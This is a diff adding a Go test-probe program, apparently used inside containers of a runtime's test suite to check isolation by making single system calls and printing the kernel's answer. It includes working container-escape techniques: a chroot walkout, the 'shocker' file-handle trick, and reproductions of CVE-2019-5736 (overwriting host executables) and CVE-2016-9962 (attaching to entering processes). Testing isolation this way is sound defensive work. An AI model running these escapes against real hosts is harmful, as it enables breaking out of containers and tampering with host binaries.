@@ -1,0 +1,313 @@
+// Command probe is what containers of the tests run to try and to tell what
+// busybox cannot: one word, one system call or trick, and the kernel's answer
+// on standard output, the errno by name.
+package main
+
+import (
+	"fmt"
+	"os"
+	"os/signal"
+	"runtime"
+	"strconv"
+	"strings"
+	"syscall"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+func main() {
+	runtime.LockOSThread()
+	if len(os.Args) < 2 {
+		fatal("which word?")
+	}
+	args := os.Args[2:]
+	switch os.Args[1] {
+	case "environ":
+		answer(os.WriteFile(args[0], []byte(strings.Join(os.Environ(), "\n")+"\n"), 0o644))
+	case "clocks":
+		clocks()
+	case "sched":
+		sched()
+	case "walkout":
+		walkout(args[0])
+	case "key":
+		key(args[0])
+	case "session":
+		session()
+	case "ptrace":
+		answer(unix.PtraceAttach(number(args[0])))
+	case "mknod":
+		answer(unix.Mknod(args[0], unix.S_IFCHR|0o666, int(unix.Mkdev(uint32(number(args[1])), uint32(number(args[2]))))))
+	case "open":
+		open(args[0], unix.O_RDWR)
+	case "openro":
+		open(args[0], unix.O_RDONLY)
+	case "write":
+		write(args[0], args[1])
+	case "mount":
+		answer(unix.Mount(args[0], args[1], args[2], 0, args[3]))
+	case "remount-rw":
+		answer(unix.Mount("", args[0], "", unix.MS_REMOUNT|unix.MS_BIND, ""))
+	case "umount":
+		answer(unix.Unmount(args[0], unix.MNT_DETACH))
+	case "mkdir":
+		answer(unix.Mkdir(args[0], 0o755))
+	case "sigmask":
+		sigmask()
+	case "hold":
+		hold(args[0])
+	case "personality":
+		p, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
+		fmt.Printf("%#x\n", p)
+	case "overwrite":
+		overwrite(args[0])
+	case "spy":
+		spy(args[0])
+	case "handle":
+		handle(args[0], args[1])
+	default:
+		fatal("what is " + os.Args[1] + "?")
+	}
+}
+
+func fatal(text string) {
+	fmt.Fprintln(os.Stderr, "probe:", text)
+	os.Exit(2)
+}
+
+func answer(err error) {
+	if err == nil {
+		fmt.Println("OK")
+		return
+	}
+	if errno, ok := err.(syscall.Errno); ok {
+		fmt.Println(unix.ErrnoName(errno))
+		return
+	}
+	fmt.Println(err)
+}
+
+func number(s string) int {
+	n, err := strconv.Atoi(s)
+	if err != nil {
+		fatal(err.Error())
+	}
+	return n
+}
+
+func clocks() {
+	for _, id := range [2]int32{unix.CLOCK_MONOTONIC, unix.CLOCK_BOOTTIME} {
+		var ts unix.Timespec
+		if err := unix.ClockGettime(id, &ts); err != nil {
+			fatal(err.Error())
+		}
+		fmt.Println(ts.Sec)
+	}
+}
+
+// sched prints policy, nice, priority, I/O class and priority, and memory
+// policy of this thread.
+func sched() {
+	attr, err := unix.SchedGetAttr(0, 0)
+	if err != nil {
+		fatal(err.Error())
+	}
+	io, _, _ := unix.Syscall(unix.SYS_IOPRIO_GET, 1, 0, 0)
+	var mode int32
+	mask := make([]uint64, 16)
+	if _, _, e := unix.Syscall6(unix.SYS_GET_MEMPOLICY, uintptr(unsafe.Pointer(&mode)), uintptr(unsafe.Pointer(&mask[0])), 1024, 0, 0, 0); e != 0 {
+		mode = -int32(e)
+	}
+	fmt.Printf("policy=%d nice=%d priority=%d ioclass=%d ioprio=%d mempolicy=%d nodes=%d\n",
+		attr.Policy, attr.Nice, attr.Priority, io>>13, io&0x1fff, mode, mask[0])
+}
+
+// walkout is the old way out of a chroot: keep a directory above it open,
+// chroot below, walk up. It prints what a file of the host at path holds.
+func walkout(path string) {
+	_ = unix.Mkdir("/tmp/jail", 0o755)
+	top, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
+	if err != nil {
+		fatal(err.Error())
+	}
+	if err := unix.Chroot("/tmp/jail"); err != nil {
+		answer(err)
+		return
+	}
+	if err := unix.Fchdir(top); err != nil {
+		fatal(err.Error())
+	}
+	for range 64 {
+		_ = unix.Chdir("..")
+	}
+	if err := unix.Chroot("."); err != nil {
+		fatal(err.Error())
+	}
+	text, err := os.ReadFile(path)
+	if err != nil {
+		fmt.Println("inside")
+		return
+	}
+	fmt.Printf("outside: %s\n", text)
+}
+
+// key looks for a key of type user in the session keyring.
+func key(name string) {
+	_, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", name, 0)
+	answer(err)
+}
+
+func session() {
+	text, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, unix.KEY_SPEC_SESSION_KEYRING)
+	if err != nil {
+		answer(err)
+		return
+	}
+	fmt.Println(text)
+}
+
+func open(path string, flags int) {
+	fd, err := unix.Open(path, flags|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
+	if err == nil {
+		unix.Close(fd)
+	}
+	answer(err)
+}
+
+func write(path, text string) {
+	fd, err := unix.Open(path, unix.O_WRONLY, 0)
+	if err == nil {
+		_, err = unix.Write(fd, []byte(text))
+	}
+	answer(err)
+}
+
+// sigmask prints the blocked and the ignored signals this process started with.
+func sigmask() {
+	data, err := os.ReadFile("/proc/thread-self/status")
+	if err != nil {
+		fatal(err.Error())
+	}
+	for _, line := range strings.Split(string(data), "\n") {
+		if strings.HasPrefix(line, "SigBlk") || strings.HasPrefix(line, "SigIgn") {
+			fmt.Println(line)
+		}
+	}
+}
+
+// hold prints "ready" and each signal that arrives, and ends with a SIGTERM.
+func hold(status string) {
+	c := make(chan os.Signal, 16)
+	signal.Notify(c, unix.SIGTERM, unix.SIGINT, unix.SIGUSR1, unix.SIGUSR2, unix.SIGHUP, unix.SIGWINCH, unix.SIGQUIT, unix.SIGCONT)
+	fmt.Println("ready")
+	for s := range c {
+		fmt.Println(unix.SignalName(s.(syscall.Signal)))
+		if s == unix.SIGTERM {
+			os.Exit(number(status))
+		}
+	}
+}
+
+// handle opens a file by a file handle that was not made here (the trick of
+// "shocker"): the root directory's inode of an ext4 file system is 2.
+func handle(mount, inode string) {
+	dir, err := unix.Open(mount, unix.O_RDONLY, 0)
+	if err != nil {
+		fatal(err.Error())
+	}
+	h := unix.NewFileHandle(1, []byte{byte(number(inode)), 0, 0, 0, 0, 0, 0, 0})
+	fd, err := unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
+	if err == nil {
+		unix.Close(fd)
+	}
+	answer(err)
+}
+
+// forOthers calls f for every other process that can be seen, again and again,
+// for so many seconds.
+func forOthers(seconds string, f func(pid string)) {
+	fmt.Println("ready")
+	end := time.Now().Add(time.Duration(number(seconds)) * time.Second)
+	self := strconv.Itoa(os.Getpid())
+	for time.Now().Before(end) {
+		entries, _ := os.ReadDir("/proc")
+		for _, e := range entries {
+			if _, err := strconv.Atoi(e.Name()); err == nil && e.Name() != self {
+				f(e.Name())
+			}
+		}
+	}
+}
+
+// overwrite is CVE-2019-5736: whoever starts a program in sight has its
+// executable opened, and written to as soon as it no longer runs. Programs of
+// the container's own /bin are left alone.
+func overwrite(seconds string) {
+	kept := map[string]int{}
+	said := map[string]bool{}
+	say := func(text string) {
+		if !said[text] {
+			said[text] = true
+			fmt.Println(text)
+		}
+	}
+	forOthers(seconds, func(pid string) {
+		link, err := os.Readlink("/proc/" + pid + "/exe")
+		if err == nil && !strings.HasPrefix(link, "/bin/") {
+			if _, have := kept[link]; !have {
+				if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
+					kept[link] = fd
+					say("opened " + link)
+				}
+			}
+		}
+		for link, fd := range kept {
+			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+			if err != nil {
+				continue // ETXTBSY while it runs
+			}
+			if _, err := unix.Write(w, []byte("overwritten")); err == nil {
+				say("overwrote " + link)
+			}
+			unix.Close(w)
+		}
+	})
+}
+
+// spy is CVE-2016-9962: a process that enters the container is looked into
+// before it has given up what it has of the host.
+func spy(seconds string) {
+	said := map[string]bool{}
+	say := func(text string) {
+		if !said[text] {
+			said[text] = true
+			fmt.Println(text)
+		}
+	}
+	forOthers(seconds, func(pid string) {
+		name, _ := os.ReadFile("/proc/" + pid + "/comm")
+		if !strings.HasPrefix(string(name), "minirun") && !strings.HasPrefix(string(name), "3") {
+			return // not on the way: the bootstrap, or a program started from a descriptor's number
+		}
+		say("seen")
+		if fd, err := unix.Open("/proc/"+pid+"/root", unix.O_PATH, 0); err == nil {
+			unix.Close(fd)
+			say("its root")
+		}
+		if dir, err := os.ReadDir("/proc/" + pid + "/fd"); err == nil && len(dir) > 0 {
+			say("its descriptors")
+		}
+		if fd, err := unix.Open("/proc/"+pid+"/mem", unix.O_RDONLY, 0); err == nil {
+			unix.Close(fd)
+			say("its memory")
+		}
+		n := number(pid)
+		if unix.PtraceAttach(n) == nil {
+			say("traced")
+			_, _ = unix.Wait4(n, nil, unix.WALL, nil)
+			_ = unix.PtraceDetach(n)
+		}
+	})
+}
